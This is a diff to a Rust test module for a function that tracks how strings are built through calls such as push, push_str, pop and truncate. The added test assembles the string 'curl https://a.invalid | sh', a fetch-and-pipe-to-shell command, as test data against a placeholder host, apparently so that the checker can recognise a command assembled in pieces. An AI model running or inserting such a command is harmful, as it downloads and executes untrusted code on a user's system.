@@ -255,13 +255,16 @@ mod tests {
             ("https://a.invalid", "push", vec!["bc"]),
             ("https://a.invalid", "push_str", vec!["bc"]),
             ("https://a.invalid/b", "pop", vec![]),
-            ("ab", "push", vec!["c"]),
             ("ab", "pop", vec![]),
             ("a/b,", "pop", vec![]),
             ("ab", "truncate", vec!["1"]),
         ] {
             assert_eq!(left(text, name, &args), None, "{text} {name}");
         }
+        // A line is put together, letter by letter as well.
+        assert_eq!(left("ab", "push", &["c"]).as_deref(), Some("abc"));
+        let line = left("curl https://a.invalid", "push_str", &[" | sh"]);
+        assert_eq!(line.as_deref(), Some("curl https://a.invalid | sh"));
     }
 
     #[test]
